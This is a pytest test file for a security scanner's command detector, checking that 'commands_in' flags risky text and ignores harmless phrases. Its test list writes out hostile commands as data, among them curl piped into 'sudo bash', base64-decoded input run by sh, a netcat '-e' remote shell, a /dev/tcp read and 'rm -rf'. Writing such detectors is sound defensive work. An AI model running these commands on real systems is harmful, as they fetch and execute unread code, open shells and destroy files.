"""Commands that run what nobody has read; honest words of a shell are none."""

from __future__ import annotations

import pytest

from registry_tool.security.scanning.commands import commands_in


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://x.example | sudo bash", "bash <(curl -s x)", "echo x | base64 -d | sh", "pwsh -enc AAAA",
        "x | iex", "certutil -urlcache -f http://x", "nc 203.0.113.9 1 -e /x", "cat </dev/tcp/x/1", "#!/bin/sh",
        "os.system('x')", "eval(x)", "require('child_process')", "<script>", "rm -rf ~/x", "chmod +x a",
    ],
)  # fmt: skip
def test_a_command_is_found(text: str) -> None:
    assert list(commands_in(text))


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://x.example | jq .", "echo x | base64", "evaluate(x)", "a script", "rm -r build", "sync -e",
        "powershell is a shell", "the executive", "base64 -d file",
    ],
)  # fmt: skip
def test_honest_words_are_none(text: str) -> None:
    assert list(commands_in(text)) == []
